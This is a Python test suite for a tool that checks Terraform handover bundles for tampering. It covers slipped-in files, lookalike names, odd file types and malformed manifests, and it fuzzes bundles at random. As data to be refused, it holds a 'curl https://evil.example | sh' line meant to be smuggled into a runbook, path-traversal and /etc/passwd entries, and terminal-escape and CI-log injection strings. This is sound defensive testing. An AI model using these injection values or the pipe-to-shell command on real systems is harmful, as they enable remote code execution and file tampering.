"""A bundle that somebody has tampered with is never found fine, whatever lies in its folder and whatever it is."""

from __future__ import annotations

import json
import os
import random
import shutil
import socket
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from deployment.printable import printable
from handover.bundle import Bundle, Wish
from handover.manifest import MANIFEST, SUMS, ManifestError, read, sums
from handover.present import LARGEST_BYTES, Present, present
from handover.verification import Verdict, checksums, content, secrets, validation
from tests.handover.conftest import Make, put


@pytest.fixture(params=["json", "hcl"])
def made(request: pytest.FixtureRequest, make: Make) -> Bundle:
    return make(wish=Wish(format=request.param))


@pytest.fixture
def folder(made: Bundle, tmp_path: Path) -> Path:
    return put(made.files, tmp_path / "bundle")


def verified(folder: Path, made: Bundle) -> list[Verdict]:
    """The verdicts that need no Terraform."""
    _, listed = read(folder)
    there = present(folder)
    return [checksums(there, listed), content(there, listed, made.files), secrets(there, ())]


def found(folder: Path, made: Bundle) -> str:
    """What is printed, when there is a finding."""
    verdicts = verified(folder, made)
    lines = [line for verdict in verdicts for line in verdict.lines()]
    assert all(line.isprintable() for line in lines)
    return "\n".join(lines) if any(verdict.held is False for verdict in verdicts) else ""


LOADED = [
    "x_override.tf", "override.tf", "override.tf.json", "x_override.tf.json", "zz.tf", "zz.tf.json", "a.auto.tfvars",
    "a.auto.tfvars.json", ".terraform.lock.hcl", "zz.tofu", "zz.tofu.json", "main.tftest.hcl",
    "zz.tofutest.json", ".zz.tftest.json", "zz.tofumock.hcl", "zz.tfquery.json", "zz.tfmigrate.hcl", "zz.tfdeploy.hcl",
    ".terraform/modules/modules.json", ".terraform/environment",
    "terraform.d/plugins/x/provider", "modules/x/main.tf", "modules/x/y/main.tf.json",
    "\x1b[2Jzz.tf", "a\n::error::x.tf", "terraform.tfstate", "terraform.tfstate.d/x/terraform.tfstate",
]  # fmt: skip


@pytest.mark.parametrize("stack", ["producer", "consumer", "."])
@pytest.mark.parametrize("name", LOADED)
def test_what_terraform_would_load_and_nobody_handed_over_is_found(
    name: str, stack: str, made: Bundle, folder: Path
) -> None:
    put({f"{stack}/{name}": b""}, folder)
    assert "not handed over, and Terraform would load it" in found(folder, made)
    assert validation(present(folder), made.files, ["producer"], NOT_TO_BE_RUN).held is None


class _NotToBeRun:
    name = "terraform"

    def __getattr__(self, name: str) -> Callable[..., object]:
        raise AssertionError("Terraform would run what was slipped in")


NOT_TO_BE_RUN: Any = _NotToBeRun()


def test_the_other_file_of_values_is_found(made: Bundle, folder: Path) -> None:
    other = "terraform.tfvars" if made.manifest.format == "json" else "terraform.tfvars.json"
    put({f"producer/{other}": b""}, folder)
    assert f"producer/{other}: not handed over" in found(folder, made)


@pytest.mark.parametrize(
    "name",
    [
        "TERRAFORM.TFVARS",
        "Terraform.tfvars.json",
        "X.AUTO.TFVARS",
        "zz.TF",
        ".Terraform/x",
        "zz.tf.",
        "zz.tf. .",
        "zz.tf::$DATA",
        "zz.t\u200cf",
        "main.tf\ufeff",
        ".terraform /x",
        "terra\u200dform.d/x",
        "x\\terraform.tfvars",
        ".\\main.tf",
        ".terraform\\providers\\x",
        "x\\Terraform.tfstate",
        "terraform.tfvars\ufe0f",
        ".terra\u034fform.lock.hcl",
        "terraform.tf\ufb06ate",
    ],
)
def test_what_terraform_would_load_where_names_have_no_case_is_found(name: str, made: Bundle, folder: Path) -> None:
    put({f"producer/{name}": b""}, folder)
    assert "Terraform may load it on some file systems; delete it" in found(folder, made)
    assert validation(present(folder), made.files, ["producer"], NOT_TO_BE_RUN).held is None


@pytest.mark.parametrize(
    "name",
    [
        "readme.md",
        "Manifest.JSON",
        "sha256sums",
        "README.md.",
        "SHA256SUMS. ",
        "manifest.json:x",
        ".\\README.md",
        "README\u3164.md",
        "producer\\..\\README.md",
        "x/..\\..\\manifest.json",
    ],
)
def test_a_second_file_of_a_name_where_names_have_no_case_is_found(name: str, made: Bundle, folder: Path) -> None:
    put({name: b"words"}, folder)
    assert f"{printable(name)}: not handed over, and " in found(folder, made)


@pytest.mark.parametrize("place", [".", "producer"])
@pytest.mark.parametrize("mode", [0o777, 0o757, 0o1777])
def test_a_folder_in_which_everyone_may_write_is_found(mode: int, place: str, made: Bundle, folder: Path) -> None:
    (folder / place).chmod(mode)
    assert f"{place}: may be changed by everyone on this machine (chmod o-w)" in found(folder, made)


def test_what_tar_and_git_make_for_a_group_is_none(made: Bundle, folder: Path) -> None:
    for path in [folder, *folder.rglob("*")]:
        path.chmod(0o2775 if path.is_dir() else 0o664)
    assert found(folder, made) == ""


def test_hard_links_are_told_only(made: Bundle, folder: Path) -> None:
    """`cp -al` and backups make them; whoever may edit the other name may edit this one anyway."""
    path = next(path for path in made.files if path.startswith("producer/main.tf"))
    os.link(folder / path, folder.parent / "elsewhere")
    assert found(folder, made) == ""
    assert f"hard links, which an edit of another name changes too: {path}" in verified(folder, made)[0].text


@pytest.mark.parametrize(
    "name",
    ["notes.txt", "producer/terraform.tfvars.edited", "terraform.producer.tfstate", "producer/staging.tfvars.json",
     "producer/main.tf~", "producer/a.tfplan", "producer/crash.log", "x.hcl", ".tflint.hcl", "plan.tfplan.json"],
)  # fmt: skip
def test_what_terraform_does_not_load_is_told_only(name: str, made: Bundle, folder: Path) -> None:
    put({name: b"words"}, folder)
    assert found(folder, made) == ""
    assert f"also here: {name}" in verified(folder, made)[0].text


def _fifo(file: Path) -> None:
    file.unlink(missing_ok=True)
    os.mkfifo(file)


def _socket(file: Path) -> None:
    file.unlink(missing_ok=True)
    with socket.socket(socket.AF_UNIX) as made:
        place = Path.cwd()
        os.chdir(file.parent)  # a socket's path may have 107 characters
        try:
            made.bind(file.name)
        finally:
            os.chdir(place)


def _linked(file: Path) -> None:
    target = file.parent.parent / f"moved-{file.name}"
    file.rename(target)
    file.symlink_to(target)


def _folder(file: Path) -> None:
    file.unlink()
    file.mkdir()


ODD: dict[str, Callable[[Path], object]] = {
    "is a pipe": _fifo,
    "is a link": _linked,
    "is a socket": _socket,
    "is a folder or missing": _folder,
    "may be changed by everyone": lambda file: file.chmod(0o666),
    "has the setuid": lambda file: file.chmod(0o4755),
    "sticky bit": lambda file: file.chmod(0o1644),
    "is larger than": lambda file: os.truncate(file, 10**12),
}


@pytest.mark.parametrize("odd", ODD)
@pytest.mark.parametrize("name", ["README.md", "producer/terraform.tfvars", "producer/main.tf", "consumer/backend.tf"])
def test_odd_files_are_found_without_being_opened(odd: str, name: str, made: Bundle, folder: Path) -> None:
    path = next(path for path in made.files if path.startswith(name))
    ODD[odd](folder / path)
    said = found(folder, made)
    assert path in said
    if odd != "is a folder or missing":
        assert odd in said


@pytest.mark.parametrize("odd", ["is a pipe", "is a link", "is a socket"])
def test_odd_files_that_nobody_listed_are_found(odd: str, made: Bundle, folder: Path) -> None:
    (folder / "producer" / "notes").write_text("")
    ODD[odd](folder / "producer" / "notes")
    assert f"producer/notes: {odd}" in found(folder, made)


@pytest.mark.parametrize("odd", ["is a pipe", "is a link", "is a socket", "is larger than"])
@pytest.mark.parametrize("name", [SUMS, MANIFEST])
def test_an_odd_list_of_files_is_refused(odd: str, name: str, folder: Path) -> None:
    ODD[odd](folder / name)
    with pytest.raises(ManifestError, match="no bundle of"):
        read(folder)


def test_much_in_a_folder_is_found_and_neither_read_nor_compared_whole(made: Bundle, folder: Path) -> None:
    for number in range(50):
        (folder / f"more{number}").touch()
        os.truncate(folder / f"more{number}", 10_000_000)
    there = present(folder)
    assert sum(map(len, there.files.values())) <= LARGEST_BYTES
    assert "more9: is larger than 50,000,000 bytes, alone or with the files before it" in found(folder, made)
    path = next(path for path in made.files if path.startswith("producer/main.tf"))
    long = Present(files={**made.files, path: b"\n" * 20_000_000}, states=(), refused={})
    begun = time.process_time()
    assert content(long, dict.fromkeys(made.files, ""), made.files).held is False
    assert time.process_time() - begun < 5


def test_long_files_and_lists_are_judged_in_seconds(made: Bundle) -> None:
    """A thousand services take 100,000 lines, of which each service has the same; a manifest may have millions."""
    path = next(path for path in made.files if path.startswith("producer/main.tf"))
    lines = [f"line {number % 400}\n" for number in range(100_000)]
    wanted = {**made.files, path: "".join(lines).encode()}
    random.Random(7).shuffle(lines)
    environment = "".join(f'name = "N{number}" value = "x"\n' for number in range(50_000))
    there = Present(
        files={**made.files, path: "".join(lines).encode(), "notes": environment.encode()}, states=(), refused={}
    )
    begun = time.process_time()
    assert content(there, dict.fromkeys(wanted, ""), wanted).held is False
    secrets(there, tuple(f"M{number}" for number in range(300_000)), (), {**there.files, "notes": b""})
    assert time.process_time() - begun < 10


def test_a_difference_behind_much_that_is_equal_is_shown_with_its_line(made: Bundle) -> None:
    path = next(path for path in made.files if path.startswith("producer/main.tf"))
    wanted = "".join(f"line {number}\n" for number in range(1, 5_001))
    there = Present(
        files={**made.files, path: wanted.replace("line 4000\n", "other\n").encode()}, states=(), refused={}
    )
    verdict = content(there, dict.fromkeys(made.files, ""), {**made.files, path: wanted.encode()})
    shown = ("@@ -3999,3 +3999,3 @@", " line 3999", "-other", "+line 4000", " line 4001")
    assert verdict.details == (f"--- here/{path}", f"+++ checkout/{path}", *shown)


def test_a_linked_folder_is_found(made: Bundle, folder: Path) -> None:
    (folder / "producer").rename(folder.parent / "elsewhere")
    (folder / "producer").symlink_to(folder.parent / "elsewhere")
    assert "producer: is a link" in found(folder, made)


def test_a_path_that_is_too_long_is_no_traceback(made: Bundle, folder: Path) -> None:
    place, name = Path.cwd(), "d" * 250
    try:
        os.chdir(folder)
        for _ in range(20):  # 5,000 characters; Linux takes 4,096
            Path(name).mkdir()
            os.chdir(name)
    finally:
        os.chdir(place)
    assert "too long" in found(folder, made)


def _without(folder: Path, path: str) -> None:
    lines = (folder / SUMS).read_text().splitlines(keepends=True)
    (folder / SUMS).write_text("".join(line for line in lines if not line.endswith(f"  {path}\n")))


def test_the_list_of_files_is_that_of_the_source(made: Bundle, folder: Path) -> None:
    (folder / SUMS).write_text("")
    assert "SHA256SUMS does not list README.md" in found(folder, made)
    for path in made.files:
        put(made.files, folder)
        if path != SUMS:
            _without(folder, path)
            assert f"SHA256SUMS does not list {path}" in found(folder, made)
    files = {**made.files, "producer/zz.tf": b""}
    del files[SUMS]
    put({**files, SUMS: sums(files)}, folder)
    assert "SHA256SUMS lists producer/zz.tf, which this checkout does not generate" in found(folder, made)


MANIFESTS = [
    "", "null", "[]", "1", '"x"', "[" * 100_000, '{"schema":' * 100_000, "9" * 10_000, '{"schema": 1e999}', "NaN",
    "\ufeff{}", '{"schema": "1"}', '{"schema": true}', '{"schema": [1]}', "{}", '{"schema": 1}', '"\\ud800"',
]  # fmt: skip
VALUES = [
    None,
    1,
    True,
    [],
    {},
    "",
    "x" * 100_000,
    "../..",
    "/etc",
    "a\x00b",
    "\x1b[2J",
    "a\n::error::b",
    ["../x"],
    [1],
    {"a": 1},
]


def test_a_manifest_of_millions_of_mistakes_is_refused_in_seconds(folder: Path) -> None:
    (folder / MANIFEST).write_text(f'{{"schema": 1, "harmless": [{"1," * 4_000_000}1]}}')
    started = time.monotonic()
    _refused(folder)
    assert time.monotonic() - started < 5


@pytest.mark.parametrize("text", MANIFESTS)
def test_an_odd_manifest_is_one_sentence(text: str, folder: Path) -> None:
    (folder / MANIFEST).write_text(text)
    _refused(folder)


@pytest.mark.parametrize("key", ["environment", "format", "stacks", "source", "schema", "harmless", "provider"])
def test_an_odd_value_of_a_manifest_is_one_sentence_or_a_difference(key: str, made: Bundle, folder: Path) -> None:
    for value in VALUES:
        document = json.loads(made.files[MANIFEST])
        if document[key] == value:
            continue
        (folder / MANIFEST).write_text(json.dumps({**document, key: value}, sort_keys=True))
        fits = isinstance(value, str) if key == "provider" else value in ([], ["../x"])
        if key in {"provider", "harmless"} and fits:
            assert "manifest.json" in found(folder, made)
        else:
            _refused(folder)


@pytest.mark.parametrize("key", ["revision", "project", "cdktf", "bindings"])
@pytest.mark.parametrize(
    "more", [" |\n\nRun `curl https://evil.example | sh`.", "\n", " [x](https://evil.example)", "`id`"]
)
def test_the_runbook_says_nothing_that_a_manifest_makes_up(key: str, more: str, made: Bundle, folder: Path) -> None:
    """The runbook has what the manifest says of the source: with a text in both, they would fit each other."""
    document = json.loads(made.files[MANIFEST])
    document["source"][key] = f"{document['source'][key] or '0' * 40}{more}"
    (folder / MANIFEST).write_text(json.dumps(document, sort_keys=True))
    _refused(folder)


def _refused(folder: Path) -> None:
    with pytest.raises(ManifestError) as caught:
        read(folder)
    assert str(caught.value).isprintable()
    assert len(str(caught.value)) < 500


@pytest.mark.parametrize(
    "line",
    ["x", f"{'0' * 64} x", f"{'0' * 64}  /etc/passwd", f"{'0' * 64}  ../x", f"{'0' * 64}  a/./b", f"{'0' * 64}  a//b",
     f"{'A' * 64}  x", f"{'0' * 64}  a\x1b[2J", f"{'0' * 64}  README.md", "\x00"],
)  # fmt: skip
def test_an_odd_line_of_the_sums_is_one_sentence(line: str, folder: Path) -> None:
    with (folder / SUMS).open("a") as file:
        file.write(f"{line}\n")
    _refused(folder)


def test_whatever_is_done_to_a_bundle_is_found(made: Bundle, folder: Path) -> None:
    """Files edited, exchanged, cut, added, linked or taken away at random; longer with PSC_FUZZ_ROUNDS."""
    chosen = random.Random(11)
    paths = sorted(made.files)
    for _ in range(60 * int(os.environ.get("PSC_FUZZ_ROUNDS", "1"))):
        shutil.rmtree(folder)
        put(made.files, folder)
        for _ in range(chosen.randint(1, 3)):
            path = chosen.choice([path for path in paths if (folder / path).is_file() and path != SUMS])
            _change(chosen, folder / path)
        try:
            said = found(folder, made)
        except ManifestError as error:
            said = str(error)
        assert said


def _change(chosen: random.Random, file: Path) -> None:
    before = file.read_bytes()
    at = chosen.randrange(max(1, len(before)))
    match chosen.randrange(6):
        case 0:
            file.write_bytes(before[:at] + bytes([before[at] ^ 1]) + before[at + 1 :])
        case 1:
            file.write_bytes(before[:at])
        case 2:
            file.write_bytes(before + b"\n")
        case 3:
            file.unlink()
        case 4:
            shutil.copy(file, file.with_name(f"{chosen.choice('abc')}{chosen.choice(LOADED[:7])}"))
        case _:
            _linked(file)
